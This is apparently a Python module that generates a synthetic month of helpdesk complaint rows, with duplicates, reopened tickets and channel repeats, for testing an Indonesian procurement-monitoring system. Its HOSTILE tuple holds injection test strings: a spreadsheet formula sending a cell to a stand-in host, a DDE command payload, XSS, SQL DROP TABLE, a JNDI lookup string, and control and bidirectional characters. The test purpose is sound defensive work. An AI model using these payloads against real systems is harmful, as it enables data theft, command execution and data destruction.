"""What came in during the month, by whom, and how each row is dated, before any file is written.

A helpdesk's month has more than one row for some complaints: a row that was pasted twice, a ticket that was opened
again, the same words by chat and by e-mail, and by the form as well. Such rows have the same `group`.
"""

from __future__ import annotations

import random
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, replace
from datetime import date, datetime, time, timedelta
from itertools import count, islice
from typing import TypeVar

from rapidfuzz import fuzz, process

from spse_monev.analysis.complaints.corpus import Example
from spse_monev.complaints import Channel, ComplaintState
from spse_monev.demo.helpdesk import wording
from spse_monev.demo.helpdesk.mentions import WAYS, mention
from spse_monev.demo.helpdesk.people import Person, make_person
from spse_monev.demo.helpdesk.wording import DateStyle
from spse_monev.period import Month

FORM_ROWS = 40
FORM_REPEATS = 12  # of these rows, complaints that are in the recap too
PASTED_TWICE = 10
REOPENED = 12
TWO_CHANNELS = 12
MENTIONS = 4 * (WAYS + 1)
# In percent of their letters. Sentences nearer to one another are not both used, or whether they are one complaint
# would be a matter of opinion.
_MAX_ALIKE = 79.0
_REGULARS = 8  # reporters who come often
_REGULAR_SHARE = 0.12
_MERGED_RUNS = 12
_RUN = 3  # rows

_T = TypeVar("_T")

HOSTILE = (
    '=HYPERLINK("http://jahat.invalid/?x="&A1,"klik di sini") tidak bisa login dari tadi pagi',
    "=cmd|' /C calc'!A0 halaman penawaran tidak terbuka",
    '<script>alert("login")</script> <img src=x onerror=alert(1)> tombol simpan tidak berfungsi',
    "'; DROP TABLE monev.complaint; -- tender tidak muncul setelah dicari",
    "{{ 7 * 7 }} ${jndi:ldap://jahat.invalid/a} %s %(site)s {0} kode galat pada halaman jadwal",
    # Control characters as Excel keeps them.
    "jadwal tidak tersimpan _x0007__x001B_[31m sejak kemarin _x0000_ sore",
    "\N{RIGHT-TO-LEFT OVERRIDE}rakgnut\N{POP DIRECTIONAL FORMATTING} berkas tidak terbuka \\N \\. \\x00",
    "tidak bisa mengunggah " + "dokumen penawaran " * 277,
    "+6,2E+11 @SUM(1+1) tab\tdan\r\nbaris baru pada halaman menjadi satu",
)


@dataclass(frozen=True, slots=True)
class Entry:
    """A complaint as one row tells it. `moment` is naive, on the office's clock."""

    person: Person
    moment: datetime
    style: DateStyle
    said: str
    example: Example | None  # None: a hostile text
    group: int
    channel: Channel
    state: ComplaintState
    ticket: str = ""
    is_reopened: bool = False
    solved_on: date | None = None
    shares_date: bool = False  # its date stands in the merged cell that begins above


@dataclass(frozen=True, slots=True)
class Plan:
    """The entries of both files in the order of their rows."""

    month: Month
    seed: int
    recap: tuple[Entry, ...]
    form: tuple[Entry, ...]
    strangers: tuple[Person, ...]  # reporters of rows that are no complaints
    others: tuple[Person, ...]  # of whom reporters tell
    mentioned: tuple[str, ...]  # what texts tell of persons

    @property
    def people(self) -> tuple[Person, ...]:
        """Everybody who stands in the files, once."""
        return tuple(
            dict.fromkeys([*(entry.person for entry in (*self.recap, *self.form)), *self.strangers, *self.others])
        )


def plan_month(month: Month, sentences: Sequence[Example], seed: int, complaints: int, strangers: int) -> Plan:
    """Plan a recap of `complaints` rows, repetitions among them, and the form's rows. ValueError: too few sentences."""
    return _Planner(month, seed).plan(sentences, complaints, strangers)


class _Planner:
    def __init__(self, month: Month, seed: int) -> None:
        self._month = month
        self._seed = seed
        self._chance = random.Random(f"{seed} {month}")
        self._last_day = month.days[-1].date
        self._numbers = count(1)
        self._groups = count(1)
        self._others: list[Person] = []
        self._regulars = [self._newcomer() for _ in range(_REGULARS)]

    def plan(self, sentences: Sequence[Example], complaints: int, strangers: int) -> Plan:
        of_form = FORM_ROWS - FORM_REPEATS
        own = complaints - PASTED_TWICE - REOPENED - TWO_CHANNELS - len(HOSTILE)
        chosen = _apart(sentences, own + of_form, self._chance)
        entries = [self._entry(example.text, example) for example in chosen[:own]]
        entries, mentioned = self._with_mentions(entries)
        entries += [self._entry(text, None) for text in HOSTILE]
        entries = self._numbered(sorted(entries, key=_moment))
        # What is repeated has only words of its own, so that nothing else can make it alike or unlike.
        plain = [entry for entry in entries if entry.example and entry.said == entry.example.text]
        picked = iter(self._chance.sample([entry for entry in plain if len(entry.said) >= 40], REOPENED + TWO_CHANNELS))
        reopened = [self._reopened(entry) for entry in islice(picked, REOPENED)]
        elsewhere = [self._by_other_channel(entry, number) for number, entry in enumerate(picked)]
        taken = {entry.group for entry in (*reopened, *elsewhere)}
        recap = self._with_shared_dates(sorted((*entries, *reopened, *elsewhere), key=_moment))
        free = [entry for entry in recap if entry in plain and entry.group not in taken and len(entry.said) >= 40]
        picked = iter(self._chance.sample(free, PASTED_TWICE + FORM_REPEATS))
        # Copied below all others, as it happens with the mouse.
        recap += islice(picked, PASTED_TWICE)
        form = [self._in_form(entry) for entry in picked]
        form += [self._answer(example) for example in chosen[own:]]
        return Plan(
            month=self._month,
            seed=self._seed,
            recap=tuple(recap),
            form=tuple(sorted(form, key=_moment)),
            strangers=tuple(self._newcomer() for _ in range(strangers)),
            others=tuple(self._others),
            mentioned=tuple(mentioned),
        )

    def _newcomer(self) -> Person:
        user_type = _weighted(self._chance, wording.USER_TYPES, wording.USER_TYPE_WEIGHTS)
        return make_person(self._chance, next(self._numbers), user_type)

    def _moment(self) -> datetime:
        """Some moment of the month, mostly in the office's hours of a working day."""
        days = [day.date for day in self._month.days]
        weights = [1.0 if day.weekday() < 5 else 0.15 for day in days]
        day = self._chance.choices(days, weights)[0]
        return datetime.combine(day, time(7, 30)) + timedelta(minutes=self._chance.randrange(9 * 60))

    def _entry(self, said: str, example: Example | None) -> Entry:
        chance = self._chance
        moment = self._moment()
        state = _weighted(chance, wording.STATES, wording.STATE_WEIGHTS)
        solved_on = min(moment.date() + timedelta(days=int(chance.expovariate(0.7))), self._last_day)
        is_regular = example is not None and chance.random() < _REGULAR_SHARE
        return Entry(
            person=chance.choice(self._regulars) if is_regular else self._newcomer(),
            moment=moment,
            style=chance.choice(wording.TIMES if chance.random() < 0.3 else wording.DATES),
            said=said,
            example=example,
            group=next(self._groups),
            channel=_weighted(chance, wording.CHANNELS, wording.CHANNEL_WEIGHTS),
            state=state,
            solved_on=solved_on if state is ComplaintState.SOLVED and chance.random() < 0.9 else None,
        )

    def _answer(self, example: Example) -> Entry:
        """An answer of the form, which nobody has taken up yet."""
        made = self._entry(example.text, example)
        return replace(
            made,
            moment=made.moment.replace(second=self._chance.randrange(60)),
            style=wording.REAL_TIME,
            channel=Channel.WEB_FORM,
            state=ComplaintState.RECORDED,
            solved_on=None,
        )

    def _in_form(self, entry: Entry) -> Entry:
        """The same reporter's answer of the form, a few hours before or after."""
        moment = entry.moment + timedelta(hours=self._chance.choice((-3, -1, 1, 2, 5)), seconds=17)
        return replace(
            entry,
            moment=moment,
            style=wording.REAL_TIME,
            channel=Channel.WEB_FORM,
            state=ComplaintState.RECORDED,
            ticket="",
            solved_on=None,
            shares_date=False,
        )

    def _with_mentions(self, entries: list[Entry]) -> tuple[list[Entry], list[str]]:
        """Some texts with what their reporters tell of themselves, and every second time of somebody else."""
        made = list(entries)
        mentioned: list[str] = []
        once = [index for index, entry in enumerate(entries) if entry.person not in self._regulars]
        for number, index in enumerate(self._chance.sample(once, MENTIONS)):
            turn, way = divmod(number, WAYS + 1)
            person = made[index].person
            if turn % 2 == 1 and way < WAYS:
                person = next(other for other in iter(self._newcomer, None) if other.surname)
                self._others.append(person)
            found = mention(made[index].said, person, way)
            made[index] = replace(made[index], said=found.text)
            mentioned.extend(found.planted)
        return made, mentioned

    def _numbered(self, entries: Iterable[Entry]) -> list[Entry]:
        """With the numbers of their tickets, which some lack."""
        return [
            replace(entry, ticket=f"LPSE-{self._month.first:%Y%m}-{number:04}") if number % 20 else entry
            for number, entry in enumerate(entries, 1)
        ]

    def _reopened(self, entry: Entry) -> Entry:
        """The same ticket, or at least the same words, some days later."""
        later = min(entry.moment + timedelta(days=self._chance.randint(1, 5)), self._end_of_month(entry))
        return replace(
            entry, moment=later, style=wording.REAL_DATE, state=ComplaintState.IN_PROGRESS, is_reopened=True,
            solved_on=None,
        )  # fmt: skip

    def _by_other_channel(self, entry: Entry, number: int) -> Entry:
        """The same reporter with the same words on another way, every second time with a few words more."""
        later = min(entry.moment + timedelta(days=number % 3, minutes=40), self._end_of_month(entry))
        return replace(
            entry,
            moment=later,
            said=f"{entry.said} mohon dibantu" if number % 2 else entry.said,
            channel=Channel.CHAT if entry.channel is not Channel.CHAT else Channel.EMAIL,
            solved_on=entry.solved_on and max(entry.solved_on, later.date()),
            ticket=f"LPSE-{self._month.first:%Y%m}-9{number:03}",
        )

    def _end_of_month(self, entry: Entry) -> datetime:
        return datetime.combine(self._last_day, entry.moment.time())

    def _with_shared_dates(self, entries: list[Entry]) -> list[Entry]:
        """Some runs of rows of one day with one merged cell for their date."""
        made = list(entries)
        starts = [
            index
            for index in range(0, len(made) - _RUN, _RUN)
            if len({entry.moment.date() for entry in made[index : index + _RUN]}) == 1
        ]
        for start in self._chance.sample(starts, _MERGED_RUNS):
            for index in range(start, start + _RUN):
                made[index] = replace(made[index], style=wording.REAL_DATE, shares_date=index > start)
        return made


def _moment(entry: Entry) -> datetime:
    return entry.moment


def _weighted(chance: random.Random, choices: Iterable[_T], weights: Sequence[float]) -> _T:
    return chance.choices(list(choices), weights)[0]


def _apart(sentences: Sequence[Example], wanted: int, chance: random.Random) -> list[Example]:
    """So many sentences in an order of chance, no two of them nearly the same."""
    chosen: list[Example] = []
    known: list[str] = []
    for example in chance.sample(sentences, len(sentences)):
        words = " ".join(sorted(re.findall(r"\w+", example.text.casefold())))
        if process.extractOne(words, known, scorer=fuzz.ratio, score_cutoff=_MAX_ALIKE) is None:
            chosen.append(example)
            known.append(words)
            if len(chosen) == wanted:
                return chosen
    raise ValueError(f"hanya {len(chosen)} kalimat yang cukup berbeda, dibutuhkan {wanted}")
